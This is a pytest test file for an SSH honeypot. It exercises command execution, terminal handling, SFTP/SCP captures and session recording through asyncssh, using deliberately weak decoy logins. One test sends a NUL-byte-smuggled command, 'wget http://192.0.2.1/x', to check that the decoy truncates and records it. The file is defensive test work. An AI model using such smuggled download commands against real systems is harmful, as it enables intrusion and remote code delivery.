# SPDX-License-Identifier: MIT
"""One SSH channel as asyncssh's client sees it: what may be requested, what comes back, what is recorded."""

from __future__ import annotations

import asyncio
import errno
import hashlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from tests.decnet_decoys.decky_host import DeckyHost, fleet_settings

from decnet_core.events.catalogue import CommandRun, FileCaptured, ServiceRequest, SessionClosed, SessionOpened
from decnet_decoys.evidence.session_recorder import SessionRecorder
from decnet_decoys.ssh.behaviour.openssh import OpenSsh
from decnet_decoys.ssh.channel import Unread
from decnet_decoys.ssh.engine import asyncssh

DEADLINE = 120.0
PROMPT = b"\x1b[?2004hroot@web-01:~# "


@pytest.fixture
async def connection(host: DeckyHost) -> AsyncIterator[Any]:
    options = {"known_hosts": None, "config": None, "client_keys": None}
    opened = await asyncssh.connect(
        host.decky.address, host.decky.services["ssh"], username="root", password="admin123", **options
    )
    yield opened
    opened.close()
    await opened.wait_closed()


async def test_a_command_has_two_streams_and_a_status(connection: Any, host: DeckyHost) -> None:
    done = await connection.run("echo out; echo err >&2; exit 7")
    assert (done.stdout, done.stderr, done.exit_status) == ("out\n", "err\n", 7)
    (run,) = await host.until(CommandRun)
    assert (run.service, run.command, run.known) == ("ssh", "echo out; echo err >&2; exit 7", True)
    (closed,) = await host.until(SessionClosed)
    assert closed.commands == 1


async def test_the_environment_is_the_daemons(connection: Any) -> None:
    address, port = connection.get_extra_info("sockname")[:2]
    shown = (await connection.run("echo $SSH_CLIENT; echo $SSH_CONNECTION; echo $SSH_TTY; echo $TERM")).stdout
    client, both, tty, term = shown.splitlines()
    assert client == f"{address} {port} 22"
    assert both.startswith(f"{address} {port} 10.20.")
    assert both.endswith(" 22")
    assert (tty, term) == ("", "dumb")


async def test_a_terminal_has_a_tty_a_size_and_crlf(connection: Any, host: DeckyHost) -> None:
    shown = await connection.run("echo $SSH_TTY $TERM", term_type="xterm-256color", term_size=(100, 30))
    assert shown.stdout == "/dev/pts/0 xterm-256color\r\n"
    (opened,) = await host.until(SessionOpened)
    assert opened.terminal == "xterm-256color"


async def test_the_machine_shows_the_ssh_daemon_and_the_clients_address(connection: Any) -> None:
    address, port = connection.get_extra_info("sockname")[:2]
    shown = (await connection.run("ps aux; ss -tnp; journalctl; who")).stdout
    assert "sshd: root [priv]" in shown
    assert f"{address}:{port}" in shown
    assert ":22 " in shown
    assert f"]: Accepted password for root from {address} port {port} ssh2\n" in shown
    assert f"({address})" not in shown  # without a terminal nobody is logged in
    assert f"({address})" in (await connection.run("who", term_type="xterm")).stdout


async def test_a_signal_ends_what_runs_but_not_for_root(connection: Any, host: DeckyHost) -> None:
    address, port = host.decky.address, host.decky.services["ssh"]
    options: Any = {"known_hosts": None, "config": None, "client_keys": None}
    async with asyncssh.connect(address, port, username="deploy", password="deploy", **options) as other:
        for asking, ended in ((other, ("INT", False, "", "")), (connection, None)):
            process = await asking.create_process("echo on; sleep 1.5; echo over")
            assert await process.stdout.readline() == "on\n"
            process.send_signal("INT")
            done = await asyncio.wait_for(process.wait(), DEADLINE)
            assert (done.exit_signal, done.stdout) == (ended, "" if ended else "over\n")


async def test_a_subsystem_that_is_not_sftp_is_refused_and_recorded(connection: Any, host: DeckyHost) -> None:
    with pytest.raises(asyncssh.ChannelOpenError):
        await connection.create_process(subsystem="netconf")
    (request,) = await host.until(ServiceRequest)
    assert (request.action, request.detail) == ("subsystem", {"name": "netconf"})


async def test_sftp_leaves_the_file_for_the_shell(connection: Any, host: DeckyHost) -> None:
    async with connection.start_sftp_client() as sftp, sftp.open("/tmp/x.sh", "w") as file:
        await file.write("echo ran\n")
    (kept,) = await host.until(FileCaptured)
    assert (kept.name, kept.size) == ("/tmp/x.sh", 9)
    assert (await connection.run("sh /tmp/x.sh")).stdout == "ran\n"


async def test_scp_is_acknowledged_byte_by_byte_and_kept(connection: Any, host: DeckyHost) -> None:
    process = await connection.create_process("scp -t /tmp", encoding=None)
    assert await process.stdout.readexactly(1) == b"\0"
    process.stdin.write(b"C0644 4 y.sh\n")
    assert await process.stdout.readexactly(1) == b"\0"
    process.stdin.write(b"true\0")
    assert await process.stdout.readexactly(1) == b"\0"
    process.stdin.write_eof()
    assert (await asyncio.wait_for(process.wait(), DEADLINE)).exit_status == 0
    (kept,) = await host.until(FileCaptured)
    assert (kept.name, kept.size) == ("/tmp/y.sh", 4)


async def test_nonsense_to_sftp_closes_the_channel_and_ends_the_session(connection: Any, host: DeckyHost) -> None:
    process = await connection.create_process(subsystem="sftp", encoding=None)
    process.stdin.write(b"\xff" * 8)
    await asyncio.wait_for(process.wait(), DEADLINE)
    assert len(await host.until(SessionClosed)) == 1
    assert (await connection.run("id -u")).stdout == "0\n"


async def test_a_shell_reads_what_is_typed_and_logs_out_at_the_end(connection: Any, host: DeckyHost) -> None:
    process = await connection.create_process(term_type="xterm", encoding=None)
    await process.stdout.readuntil(PROMPT)
    process.stdin.write(b"id -u\r")
    assert await process.stdout.readuntil(PROMPT) == b"id -u\r\n\x1b[?2004l\r0\r\n" + PROMPT
    process.stdin.write(b"\x04")
    done = await asyncio.wait_for(process.wait(), DEADLINE)
    assert (done.stdout, done.exit_status) == (b"\x1b[?2004l\r\r\nlogout\r\n", 0)
    assert [run.command for run in await host.until(CommandRun)] == ["id -u"]


async def test_each_session_ends_once_when_the_client_goes_away(connection: Any, host: DeckyHost) -> None:
    for _ in range(2):
        process = await connection.create_process(term_type="xterm", encoding=None)
        await process.stdout.readuntil(PROMPT)
    connection.abort()
    assert len(await host.until(SessionClosed, 2)) == 2
    assert len(host.events(SessionOpened)) == 2


async def test_what_goes_wrong_at_the_end_of_a_session_ends_no_other(
    connection: Any, host: DeckyHost, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(_self: object) -> None:
        raise OSError(errno.ENOSPC, "no space left")

    with monkeypatch.context() as broken:
        broken.setattr(SessionRecorder, "end", refused)
        ended = await asyncio.wait_for(connection.run("true", check=False), DEADLINE)
        assert ended.exit_status is None
    assert host.ctx.counters.snapshot()["decoys_session_errors"] == 1
    assert host.ctx.tasks._failure is None, "the worker would end with it"
    assert (await asyncio.wait_for(connection.run("echo on", check=False), DEADLINE)).stdout == "on\n"


def test_what_is_sent_byte_by_byte_is_kept_as_one() -> None:
    sizes: list[int] = []
    unread = Unread(sizes.append)
    for _ in range(1000):
        unread.append((b"x", None))
    unread.append((b"y", 1))
    assert [(bytes(data), kind) for data, kind in unread] == [(b"x" * 1000, None), (b"y", 1)]
    assert sum(sizes) == 1001
    unread.pop(0)
    assert sum(sizes) == 1


async def test_what_waits_while_a_command_does_not_read_arrives_whole(host: DeckyHost) -> None:
    data = bytes(range(256)) * 4000
    assert (await host.ssh("sleep 1; md5sum", stdin=data))[1].split()[0].decode() == hashlib.md5(data).hexdigest()


async def test_a_client_may_send_little_ahead(connection: Any) -> None:
    process = await connection.create_process("sleep 60")
    assert process.channel._send_window == OpenSsh.window
    process.close()


async def test_what_dropbear_leaves_out_of_a_command_is_on_record(tmp_path: Path) -> None:
    host = DeckyHost(tmp_path, fleet_settings("nas", offers=("ssh",)))
    await host.open()
    options: Any = {"known_hosts": None, "config": None, "client_keys": None}
    try:
        address, port = host.decky.address, host.decky.services["ssh"]
        async with asyncssh.connect(address, port, username="root", password="admin", **options) as client:
            assert (await client.run("echo seen\0; wget http://192.0.2.1/x")).stdout == "seen\n"
        (run,) = await host.until(CommandRun)
        assert run.command == "echo seen"
        (whole,) = [one for one in await host.until(ServiceRequest) if one.action == "exec"]
        assert whole.detail == {"command": "echo seen\0; wget http://192.0.2.1/x"}
    finally:
        await host.close()
